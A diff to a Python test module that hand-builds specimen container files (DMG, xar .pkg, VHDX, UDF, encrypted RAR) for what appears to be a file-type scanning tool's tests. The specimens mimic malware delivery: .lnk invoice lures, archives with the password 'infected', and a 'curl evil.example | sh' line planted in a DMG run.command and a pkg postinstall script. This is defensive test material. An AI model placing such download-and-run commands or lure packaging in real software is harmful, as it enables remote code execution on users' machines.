@@ -1,8 +1,9 @@
 """Specimens of today's delivery formats, built at test time (issue 14): nothing binary is committed.
 
-libarchive writes cpio, ar, xar, ISO 9660 and 7z; pycdlib writes ISO 9660 with Joliet and UDF;
+libarchive writes cpio, ar, ISO 9660 and 7z; pycdlib writes ISO 9660 with Joliet and UDF;
 cabarchive writes MSZIP cabinets; officedocs.compound_file writes the OLE compound files an MSI
-and an Outlook .msg are made of. RAR cannot be written by any free tool here: see tests/data/README.md.
+and an Outlook .msg are made of. No free tool here writes RAR, DMG, VHDX or (with the archi
+wheel's libarchive) xar, so this module writes them by hand from their published formats.
 """
 
 from __future__ import annotations
@@ -11,6 +12,7 @@ import io
 import struct
 from collections.abc import Iterable
 from dataclasses import dataclass
+from typing import Any
 
 import cabarchive
 import pycdlib
@@ -210,17 +212,61 @@ def append_to_image(kind: str, payload: bytes) -> bytes:
     return out.getvalue() + payload
 
 
-def make_dmg(payload: bytes = bytes(range(256)) * 64) -> bytes:
-    """An Apple disk image's shape: zlib-compressed blocks, the XML property list, the 512-byte
-    `koly` trailer. libmagic sees only "zlib compressed data"; magika knows it."""
+def make_dmg(volume: bytes | None = None, compress: bool = True, chunk_sectors: int = 2048) -> bytes:
+    """An Apple UDIF disk image (.dmg) of the disk `volume` (default: a FAT volume with one file),
+    its data fork as zlib-compressed (UDZO) or raw (UDRO) chunks. libmagic sees only "zlib
+    compressed data"; magika knows it."""
     import zlib
 
-    plist = (b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN">\n'
-             b'<plist version="1.0"><dict><key>resource-fork</key><dict><key>blkx</key><array><dict>'
-             b'<key>Data</key><data>bWlzaA==</data></dict></array></dict></dict></plist>\n')
-    body = zlib.compress(payload)
-    koly = b"koly" + struct.pack(">IIIQQQQQ", 4, 512, 1, 0, 0, len(body), len(body), len(plist))
-    return body + plist + koly.ljust(512, b"\0")
+    if volume is None:
+        volume = make_fat({"Install.app/run.command": b"#!/bin/sh\ncurl evil.example | sh\n"})
+    volume = volume.ljust(-(-len(volume) // 512) * 512, b"\0")
+    data, chunks = b"", []
+    for first in range(0, len(volume) // 512, chunk_sectors):
+        raw = volume[first * 512:(first + chunk_sectors) * 512]
+        packed = zlib.compress(raw) if compress else raw
+        chunks.append((UDIF_ZLIB if compress else UDIF_RAW, first, len(raw) // 512, len(data), len(packed)))
+        data += packed
+    return udif(data, chunks)
+
+
+UDIF_RAW, UDIF_ZLIB = 0x00000001, 0x80000005
+
+
+def udif(data_fork: bytes, chunks: list[tuple[int, int, int, int, int]]) -> bytes:
+    """A UDIF image written by hand from its layout: the data fork, the XML property list whose
+    `blkx` entry holds the base64 `mish` block table (chunks of (type, first sector, sectors,
+    offset in the data fork, length), then the terminator), and the 512-byte `koly` trailer."""
+    import base64
+
+    sectors = max((first + count for _, first, count, _, _ in chunks), default=0)
+    table = [struct.pack(">IIQQQQ", kind, 0, first, count, offset, length) for kind, first, count, offset, length in chunks]
+    table.append(struct.pack(">IIQQQQ", 0xFFFFFFFF, 0, sectors, 0, len(data_fork), 0))
+    mish = (struct.pack(">4sIQQQII", b"mish", 1, 0, sectors, 0, 0, 0) + bytes(24) + struct.pack(">II", 2, 32) + bytes(128)
+            + struct.pack(">I", len(table)) + b"".join(table))
+    name = "disk image (DOS_FAT_12 : 1)"
+    plist = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" '
+             '"http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict><key>resource-fork</key>'
+             '<dict><key>blkx</key><array><dict><key>Attributes</key><string>0x0050</string>'
+             f'<key>CFName</key><string>{name}</string><key>Data</key><data>{base64.b64encode(mish).decode()}</data>'
+             f'<key>ID</key><string>0</string><key>Name</key><string>{name}</string></dict></array></dict></dict></plist>\n').encode()
+    koly = struct.pack(">4sIIIQQQQQII16sII128sQQ120sII128sIQ12s", b"koly", 4, 512, 1, 0, 0, len(data_fork), 0, 0, 1, 1,
+                       bytes(16), 0, 0, bytes(128), len(data_fork), len(plist), bytes(120), 0, 0, bytes(128), 1, sectors,
+                       bytes(12))
+    return data_fork + plist + koly
+
+
+def make_udf(files: dict[str, bytes]) -> bytes:
+    """A UDF-only image (no ISO 9660 side, as Windows mounts them): pycdlib writes a UDF bridge
+    image, whose ISO 9660 descriptors are then replaced by the UDF volume recognition sequence
+    (BEA01, NSR02, TEA01) moved up to 32 KiB, where a reader looks first."""
+    image = bytearray(make_iso(files, joliet=False, udf=True))
+    sector = 2048
+    first = next(index for index in range(16, 32) if image[index * sector + 1:index * sector + 6] == b"BEA01")
+    sequence = image[first * sector:(first + 3) * sector]
+    image[16 * sector:first * sector + 3 * sector] = bytes((first - 16 + 3) * sector)
+    image[16 * sector:19 * sector] = sequence
+    return bytes(image)
 
 
 @dataclass(frozen=True)
@@ -266,11 +312,22 @@ def specimens() -> list[Specimen]:
         Specimen("CAB (MSZIP)", "update.cab", cab, "archive/cab", True),
         Specimen("RAR 4 (stored)", "invoice.rar", make_rar4_stored({"invoice.pdf.lnk": b"L\0\0\0 lnk"}), "archive/rar", True),
         Specimen("RAR 5 (stored)", "invoice5.rar", make_rar5_stored({"invoice.pdf.lnk": b"L\0\0\0 lnk"}), "archive/rar", True),
+        Specimen("RAR 4 (AES-128, password 'infected')", "locked4.rar",
+                 make_rar4_stored({"invoice.pdf.lnk": b"L\0\0\0 lnk"}, password="infected"), "archive/rar", True),
+        Specimen("RAR 5 (AES-256, password 'infected')", "locked.rar",
+                 make_rar5_stored({"invoice.pdf.lnk": b"L\0\0\0 lnk"}, password="infected"), "archive/rar", True),
+        Specimen("RAR 5 (encrypted headers)", "locked-names.rar",
+                 make_rar5_stored({"invoice.pdf.lnk": b"L\0\0\0 lnk"}, password="infected", encrypt_headers=True),
+                 "archive/rar", True),
         Specimen("MSI", "setup.msi", make_msi(cab, {"CustomAction": b"MZ dll"}), "document/installer/windows", True),
         Specimen("cpio", "initrd.cpio", make_cpio([("bin/sh", b"#!/bin/sh\n", 0o100755)]), "archive/cpio", True),
         Specimen(".deb", "helper.deb", make_deb({"./usr/bin/helper": b"#!/bin/sh\n"}), "archive/deb", True),
         Specimen("ar", "lib.a", libarchive_write("ar_svr4", [("a.o", b"\x7fELF object")]), "archive/ar", True),
-        Specimen("DMG", "app.dmg", make_dmg(), "archive/dmg", False),
+        Specimen("xar (.pkg)", "installer.pkg", make_xar({"Payload/Install.app/Contents/MacOS/Install": b"\xcf\xfa\xed\xfe mach-o",
+                                                          "Scripts/postinstall": b"#!/bin/sh\ncurl evil.example|sh\n"}),
+                 "archive/xar", True),
+        Specimen("DMG (UDZO, FAT)", "app.dmg", make_dmg(), "archive/dmg", True),
+        Specimen("UDF image (no ISO 9660)", "disk.img", make_udf({"invoice.pdf.lnk": b"L\0\0\0 lnk"}), "archive/udf", True),
         Specimen("e-mail (.eml)", "invoice.eml", eml, "text/email", True),
         Specimen("Outlook (.msg)", "invoice.msg", make_msg("From: a@evil.example\nSubject: x\n", "see", "<p>x</p>",
                                                             {"a.lnk": b"L\0\0\0"}), "document/office/email", True),
@@ -297,7 +354,8 @@ def specimens() -> list[Specimen]:
         Specimen("pcapng", "a.pcapng", bytes.fromhex("0A0D0D0A1C0000004D3C2B1A01000000FFFFFFFFFFFFFFFF1C000000"),
                  "network/tcpdump", False),
         Specimen("GPG message", "m.gpg", b"-----BEGIN PGP MESSAGE-----\n\nhQEMA5\n-----END PGP MESSAGE-----\n", "document/pgp", False),
-        Specimen("VHDX", "disk.vhdx", b"vhdxfile" + bytes(4096), "archive/vhdx", False),
+        Specimen("VHDX (dynamic, MBR + FAT)", "disk.vhdx", make_vhdx(make_mbr_disk(make_fat({"invoice.pdf.lnk": b"L\0\0\0 lnk"}))),
+                 "archive/vhdx", True),
         Specimen("VHD (dynamic, FAT)", "disk.vhd", make_vhd(make_fat({"invoice.pdf.lnk": b"L\0\0\0 lnk"})), "archive/vhd", True),
         Specimen("disk image (.img, MBR + FAT)", "disk.img", make_mbr_disk(make_fat({"run.bat": b"@echo off"})), "archive/img", True),
     ]
@@ -310,20 +368,92 @@ def rar4_block(head_type: int, flags: int, body: bytes) -> bytes:
     return struct.pack("<H", zlib.crc32(header) & 0xFFFF) + header
 
 
-def make_rar4_stored(files: dict[str, bytes], encrypted: bool = False) -> bytes:
+def make_rar4_stored(files: dict[str, bytes], encrypted: bool = False, password: str | None = None) -> bytes:
     """A RAR 4 archive of stored (uncompressed) members, written by hand from the RAR 4 technote:
-    the marker block, the archive header, one file header (+ data) per member, the end block. No
-    free tool writes RAR; stored members need no compressor, and libarchive reads them as any RAR.
-    `encrypted` sets each member's password flag (its bytes stay as given: a stand-in ciphertext)."""
+    the marker block, the archive header, one file header (+ data) per member, the end block.
+    `encrypted` sets each member's password flag (its bytes stay as given: a stand-in ciphertext);
+    `password` encrypts each member as RAR 3.x does: AES-128-CBC, key and IV from 2**18 SHA-1
+    rounds over the UTF-16 password, an 8-byte salt and the round number (salt in the header)."""
+    import os
     import zlib
+
+    from Cryptodome.Cipher import AES
 
     out = b"Rar!\x1a\x07\x00" + rar4_block(0x73, 0, bytes(6))
     for name, data in files.items():
         encoded = name.encode()
-        body = struct.pack("<IIBIIBBHI", len(data), len(data), 2, zlib.crc32(data), 0x5A210000, 29 if encrypted else 20,
-                           0x30, len(encoded), 0x20)
-        out += rar4_block(0x74, 0x8000 | (0x4 if encrypted else 0), body + encoded) + data
+        stored, salt, flags = data, b"", 0x8000
+        if password is not None:
+            salt = os.urandom(8)
+            key, iv = _rar3_key(password, salt)
+            stored = AES.new(key, AES.MODE_CBC, iv).encrypt(data + bytes(-len(data) % 16))
+            flags |= 0x4 | 0x400  # LHD_PASSWORD, LHD_SALT
+        elif encrypted:
+            flags |= 0x4
+        body = struct.pack("<IIBIIBBHI", len(stored), len(data), 2, zlib.crc32(data), 0x5A210000,
+                           29 if flags & 0x4 else 20, 0x30, len(encoded), 0x20)
+        out += rar4_block(0x74, flags, body + encoded + salt) + stored
     return out + rar4_block(0x7B, 0x4000, b"")
+
+
+def _rar3_key(password: str, salt: bytes) -> tuple[bytes, bytes]:
+    """RAR 3.x's AES-128 key and IV: SHA-1 over 2**18 rounds of (UTF-16LE password, salt, the
+    round number in 3 bytes); every 2**14 rounds the running digest's last byte is an IV byte;
+    the key is the final digest's first four words, each byte-swapped."""
+    import hashlib
+
+    raw = password.encode("utf-16-le") + salt
+    sha = hashlib.sha1()
+    iv = bytearray(16)
+    rounds = 0x40000
+    for index in range(rounds):
+        sha.update(raw + index.to_bytes(3, "little"))
+        if index % (rounds // 16) == 0:
+            iv[index // (rounds // 16)] = sha.copy().digest()[19]
+    digest = sha.digest()
+    return b"".join(digest[word * 4:word * 4 + 4][::-1] for word in range(4)), bytes(iv)
+
+
+def make_xar(files: dict[str, bytes], links: dict[str, str] | None = None, compress: bool = True) -> bytes:
+    """A xar archive (macOS .pkg, .xip) written by hand from the format: a 28-byte header, the
+    zlib-compressed XML table of contents, then the heap (the TOC's SHA-1, each file's data,
+    zlib-compressed or stored). Names are written as given, '/' making nested <file>s; `links`:
+    symlinks (name → target). libarchive writes xar only when built with libxml2, which the
+    archi wheel's is not."""
+    import hashlib
+    import zlib
+    from xml.sax.saxutils import escape
+
+    heap = bytearray(20)  # the TOC's checksum goes first
+    root: dict[str, Any] = {}  # name -> a file's XML body, or a folder's dict
+    counter = iter(range(1, 1_000_000))
+
+    def place(path: str, body: str) -> None:
+        parts = [path] if path.startswith("/") else path.split("/")  # an absolute name stays one <name>
+        node = root
+        for part in parts[:-1]:
+            node = node.setdefault(part, {})
+        node[parts[-1]] = body
+
+    def render(node: dict[str, Any]) -> str:
+        return "".join(f'<file id="{next(counter)}"><name>{escape(name)}</name>'
+                       + (value if isinstance(value, str) else "<type>directory</type>" + render(value)) + "</file>"
+                       for name, value in node.items())
+
+    for path, data in files.items():
+        packed = zlib.compress(data) if compress else data
+        style = "application/x-gzip" if compress else "application/octet-stream"
+        place(path, f"<type>file</type><data><length>{len(packed)}</length><offset>{len(heap)}</offset><size>{len(data)}</size>"
+                    f'<encoding style="{style}"/><archived-checksum style="sha1">{hashlib.sha1(packed).hexdigest()}'
+                    f'</archived-checksum><extracted-checksum style="sha1">{hashlib.sha1(data).hexdigest()}</extracted-checksum></data>')
+        heap += packed
+    for path, target in (links or {}).items():
+        place(path, f'<type>symlink</type><link type="file">{escape(target)}</link>')
+    toc = ('<?xml version="1.0" encoding="UTF-8"?>\n<xar><toc><checksum style="sha1"><offset>0</offset><size>20</size>'
+           f"</checksum>{render(root)}</toc></xar>\n").encode()
+    packed_toc = zlib.compress(toc)
+    heap[:20] = hashlib.sha1(packed_toc).digest()
+    return struct.pack(">4sHHQQI", b"xar!", 28, 1, len(packed_toc), len(toc), 1) + packed_toc + bytes(heap)
 
 
 def make_fat(files: dict[str, bytes], size: int = 2 * 1024 * 1024) -> bytes:
@@ -389,6 +519,70 @@ def make_vhd(raw: bytes, dynamic: bool = True, block_size: int = 2 * 1024 * 1024
     return footer + bytes(header) + bat + blocks + footer
 
 
+_VHDX_MIB = 1024 * 1024
+_VHDX_GUIDS = {name: uuid for name, uuid in (
+    ("bat", "2DC27766-F623-4200-9D64-115E9BFD4A08"), ("metadata", "8B7CA206-4790-4B9A-B8FE-575F050F886E"),
+    ("file parameters", "CAA16737-FA36-4D43-B3B6-33F0AA44E76B"), ("disk size", "2FA54224-CD1B-4876-B211-5DBED83BF4B8"),
+    ("page 83", "BECA12AB-B2E6-4523-93EF-C309E000C746"), ("logical sector", "8141BF1D-A96F-4709-BA47-F233A8FAAB5F"),
+    ("physical sector", "CDA348C7-445D-4471-9CC9-E9885251C556"))}
+
+
+def make_vhdx(raw: bytes, block_size: int = _VHDX_MIB) -> bytes:
+    """A dynamic VHDX of the disk `raw`, written by hand from [MS-VHDX]: the file identifier, two
+    headers and two region tables (CRC-32C), an empty log, the metadata region (block size, disk
+    size, sector sizes, disk id), the block allocation table and, MiB-aligned, only the blocks
+    that are not all zeros (so a sparse disk's zeros are declared, not stored)."""
+    import uuid
+
+    from dissect.util.hash.crc32c import crc32c
+
+    def guid(name: str) -> bytes:
+        return uuid.UUID(_VHDX_GUIDS[name]).bytes_le
+
+    def checksummed(body: bytearray) -> bytes:
+        struct.pack_into("<I", body, 4, 0)  # the CRC-32C is over the structure with its checksum field zero
+        struct.pack_into("<I", body, 4, crc32c(bytes(body)))
+        return bytes(body)
+
+    size = -(-len(raw) // block_size) * block_size
+    log_at, metadata_at, bat_at, data_at = _VHDX_MIB, 2 * _VHDX_MIB, 3 * _VHDX_MIB, 4 * _VHDX_MIB
+    out = bytearray(data_at)
+    out[:8 + 32] = b"vhdxfile" + "sluice tests".encode("utf-16-le").ljust(32, b"\0")
+    for index, at in enumerate((64 * 1024, 128 * 1024)):
+        header = bytearray(4096)
+        struct.pack_into("<4sIQ16s16s16sHHIQ", header, 0, b"head", 0, index + 1, bytes(range(16)), bytes(range(16)),
+                         bytes(16), 0, 1, _VHDX_MIB, log_at)
+        out[at:at + 4096] = checksummed(header)
+    regions = bytearray(64 * 1024)
+    struct.pack_into("<4sIII", regions, 0, b"regi", 0, 2, 0)
+    struct.pack_into("<16sQII", regions, 16, guid("bat"), bat_at, _VHDX_MIB, 1)
+    struct.pack_into("<16sQII", regions, 48, guid("metadata"), metadata_at, _VHDX_MIB, 1)
+    for at in (192 * 1024, 256 * 1024):
+        out[at:at + len(regions)] = checksummed(regions)
+    items = [("file parameters", struct.pack("<II", block_size, 0), 0b100),
+             ("disk size", struct.pack("<Q", size), 0b110), ("page 83", bytes(range(16, 32)), 0b110),
+             ("logical sector", struct.pack("<I", 512), 0b110), ("physical sector", struct.pack("<I", 4096), 0b110)]
+    table = struct.pack("<8sHH20x", b"metadata", 0, len(items))
+    offset = 64 * 1024
+    values = b""
+    for name, value, flags in items:
+        table += struct.pack("<16sIII4x", guid(name), offset + len(values), len(value), flags)
+        values += value
+    out[metadata_at:metadata_at + len(table)] = table
+    out[metadata_at + offset:metadata_at + offset + len(values)] = values
+    chunk_ratio = (2**23 * 512) // block_size  # payload blocks per sector-bitmap entry in the table
+    blocks = b""
+    for index in range(size // block_size):
+        block = raw[index * block_size:(index + 1) * block_size]
+        if not block.strip(b"\0"):
+            continue  # PAYLOAD_BLOCK_NOT_PRESENT: reads as zeros
+        position = data_at + len(blocks)
+        entry = index + index // chunk_ratio
+        struct.pack_into("<Q", out, bat_at + 8 * entry, (position // _VHDX_MIB) << 20 | 6)  # PAYLOAD_BLOCK_FULLY_PRESENT
+        blocks += block.ljust(block_size, b"\0")
+    return bytes(out) + blocks
+
+
 def make_mbr_disk(volume: bytes, partition_type: int = 0x01) -> bytes:
     """A disk with an MBR partition table whose one partition (at 1 MiB) is `volume`."""
     start, sectors = 2048, -(-len(volume) // 512)
@@ -437,17 +631,84 @@ def _rar5_block(fields: bytes, data: bytes = b"") -> bytes:
     return struct.pack("<I", zlib.crc32(header)) + header + data
 
 
-def make_rar5_stored(files: dict[str, bytes]) -> bytes:
+def make_rar5_stored(files: dict[str, bytes], password: str | None = None, encrypt_headers: bool = False,
+                     kdf_log2: int = 15, links: dict[str, str] | None = None, comment: bytes = b"") -> bytes:
     """A RAR 5 archive of stored members, written by hand from the RAR 5 format description: the
-    signature, the main header, a file header (+ data) per member, the end of archive."""
+    signature, the main header, a file header (+ data) per member, the end of archive.
+
+    With `password` each member's data is AES-256-CBC encrypted under a file encryption record
+    (PBKDF2-HMAC-SHA256 key, 2**kdf_log2 rounds, with the password check value); with
+    `encrypt_headers` too (`rar -hp`) an archive encryption header follows the signature and
+    every later header is encrypted, so even the member names need the password. `links`: Unix
+    symlinks (name → target), as file headers with a file system redirection record; `comment`:
+    the archive comment, a stored "CMT" service header."""
+    import os
     import zlib
 
-    out = b"Rar!\x1a\x07\x01\x00" + _rar5_block(_vint(1) + _vint(0) + _vint(0))
+    from Cryptodome.Cipher import AES
+
+    def encrypt(key: bytes, iv: bytes, plain: bytes) -> bytes:
+        return AES.new(key, AES.MODE_CBC, iv).encrypt(plain + bytes(-len(plain) % 16))
+
+    head_key = None
+    out = b"Rar!\x1a\x07\x01\x00"
+    if password is not None and encrypt_headers:
+        salt = os.urandom(16)
+        head_key, check = _rar5_keys(password, salt, kdf_log2)
+        out += _rar5_block(_vint(4) + _vint(0) + _vint(0) + _vint(0x0001) + bytes([kdf_log2]) + salt + check)
+
+    def block(fields: bytes, data: bytes = b"") -> bytes:
+        if head_key is None:
+            return _rar5_block(fields, data)
+        iv = os.urandom(16)
+        return iv + encrypt(head_key, iv, _rar5_block(fields)) + data
+
+    out += block(_vint(1) + _vint(0) + _vint(0))
+    if comment:
+        out += block(_vint(3) + _vint(0x0002) + _vint(len(comment)) + _vint(0x0004) + _vint(len(comment)) + _vint(0)
+                     + struct.pack("<I", zlib.crc32(comment)) + _vint(0) + _vint(0) + _vint(3) + b"CMT", comment)
+    for name, target in (links or {}).items():
+        record = _vint(5) + _vint(1) + _vint(0) + _vint(len(target.encode())) + target.encode()  # redirection: Unix symlink
+        extra = _vint(len(record)) + record
+        encoded = name.encode()
+        out += block(_vint(2) + _vint(0x0003) + _vint(len(extra)) + _vint(0) + _vint(0) + _vint(0) + _vint(0o120777)
+                     + _vint(0) + _vint(1) + _vint(len(encoded)) + encoded + extra)  # stored, host: Unix; no data
     for name, data in files.items():
         encoded = name.encode()
-        fields = (_vint(2) + _vint(0x0002) + _vint(len(data))  # type: file; flags: data area present; its size
+        extra = b""
+        stored = data
+        if password is not None:
+            salt, iv = os.urandom(16), os.urandom(16)
+            key, check = _rar5_keys(password, salt, kdf_log2)
+            record = _vint(1) + _vint(0) + _vint(0x0001) + bytes([kdf_log2]) + salt + iv + check
+            extra = _vint(len(record)) + record  # file encryption record: AES-256, password check present
+            stored = encrypt(key, iv, data)
+        fields = (_vint(2) + _vint(0x0002 | (0x0001 if extra else 0))  # type: file; flags: data area (+ extra area)
+                  + (_vint(len(extra)) if extra else b"") + _vint(len(stored))
                   + _vint(0x0004) + _vint(len(data)) + _vint(0x20)  # file flags: CRC32 present; size; attributes
                   + struct.pack("<I", zlib.crc32(data)) + _vint(0) + _vint(0)  # CRC32; stored, version 0; host: Windows
-                  + _vint(len(encoded)) + encoded)
-        out += _rar5_block(fields, data)
-    return out + _rar5_block(_vint(5) + _vint(0) + _vint(0))
+                  + _vint(len(encoded)) + encoded + extra)
+        out += block(fields, stored)
+    return out + block(_vint(5) + _vint(0) + _vint(0))
+
+
+def _rar5_keys(password: str, salt: bytes, kdf_log2: int) -> tuple[bytes, bytes]:
+    """RAR 5's AES key and 12-byte password check value: PBKDF2-HMAC-SHA256 over 2**kdf_log2
+    rounds gives the key; the same chain run 32 rounds further gives the check value (folded to
+    8 bytes, then 4 bytes of its SHA-256)."""
+    import hashlib
+    import hmac
+
+    secret = password.encode()
+    u = hmac.digest(secret, salt + b"\0\0\0\1", "sha256")
+    acc = int.from_bytes(u, "big")
+    values = []
+    for rounds in (2 ** kdf_log2 - 1, 16, 16):
+        for _ in range(rounds):
+            u = hmac.digest(secret, u, "sha256")
+            acc ^= int.from_bytes(u, "big")
+        values.append(acc.to_bytes(32, "big"))
+    check = bytearray(8)
+    for index, byte in enumerate(values[2]):
+        check[index % 8] ^= byte
+    return values[0], bytes(check) + hashlib.sha256(check).digest()[:4]
